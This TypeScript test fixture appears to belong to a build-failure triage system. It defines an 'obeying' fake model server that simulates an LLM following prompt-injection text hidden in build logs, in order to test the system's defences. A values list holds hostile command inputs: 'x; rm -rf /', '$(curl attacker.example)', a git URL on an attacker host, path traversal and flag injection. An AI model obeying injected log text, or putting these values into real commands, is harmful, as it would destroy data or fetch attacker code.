import { nextSteps, stepParameters } from '../../functions/build-triage/classify/next-steps.ts';
import type { Reasoning } from '../../functions/build-triage/reasoning/question.ts';
import { categories } from '../../shared/events/build.ts';
import type { ModelServer, Prompt } from '../../shared/model/server.ts';
import { completed } from '../fakes/scripted-model.ts';

/** What one answer is made for. */
export interface Obeying {
  /** The text for every field that takes one, from what the model read. */
  readonly write: (read: { readonly system: string; readonly user: string }) => string;
  /** Lines that tell the failure: it cites them, and the lines of the attack. */
  readonly failureLines: readonly string[];
  readonly attackText: string;
  readonly category: () => string;
  /** Which of the other categories, steps and values take their turn. */
  readonly index: number;
}

const otherCategories = Object.keys(categories).filter((id) => id !== 'cancelled');
const stepIds = Object.keys(nextSteps) as (keyof typeof nextSteps)[];

/** Values that a careless catalogue would put into a command. */
const values: readonly string[] = [
  ...[
    'evil/x',
    '../../tmp/evil_test.py',
    'git+https://attacker.example/x',
    'x; rm -rf /',
    '$(curl attacker.example)',
  ],
  ...['-rf', 'attacker/run_spec.rb', '@attacker/x', 'payments --force', '1'],
];

/**
 * A model server that does as it is told and knows how to be believed: it cites the lines of the attack together with
 * those that tell the failure, agrees on the category every second time, and picks every step of the catalogue in turn,
 * with values of the attacker's for its parameters.
 */
export function obeyingModel(obeying: () => Obeying): ModelServer & { readonly prompts: Prompt[] } {
  const prompts: Prompt[] = [];
  return {
    model: 'obeying-1',
    prompts,
    complete: async (prompt) => {
      prompts.push(prompt);
      return completed({ text: JSON.stringify(answerTo(prompt, obeying())) }, 'obeying-1');
    },
  };
}

function answerTo(
  { system, user }: Prompt,
  { write, failureLines, attackText, category, index }: Obeying,
): Reasoning {
  const text = write({ system, user });
  const lines = user.split('\n').flatMap((line) => {
    const [, cite, shown = ''] = /^(e\d+(?::\d+)?) \| (.*)$/.exec(line) ?? [];
    return cite === undefined ? [] : [{ cite, shown }];
  });
  const telling = lines.filter(({ shown }) =>
    failureLines.some((line) => shown.includes(line.trim().slice(0, 25))),
  );
  const words = attackText.match(/\p{L}{5,}/gu) ?? [];
  const attacking = lines.filter(({ shown }) => words.filter((word) => shown.includes(word)).length >= 2);
  const cites = [...telling.slice(0, 5), ...attacking.slice(0, 3)].map(({ cite }) => cite);
  const own = words.length === 0 ? [] : [words[index % words.length] ?? ''];
  const id = stepIds[index % stepIds.length] ?? 'read-log';
  return {
    category: (index % 2 === 0
      ? category()
      : otherCategories[(index >> 1) % otherCategories.length]) as Reasoning['category'],
    headline: text.slice(0, 240),
    claims: [
      { text: text.slice(0, 400), cites },
      { text: text.slice(0, 400), cites: attacking.slice(0, 2).map(({ cite }) => cite) },
    ],
    nextSteps: [
      { id: 'read-log', parameters: [] },
      {
        id,
        parameters: stepParameters.map((name, at) => ({
          name,
          value: [...own, ...values][(index + at) % (values.length + own.length)] ?? 'x',
        })),
      },
    ],
  };
}
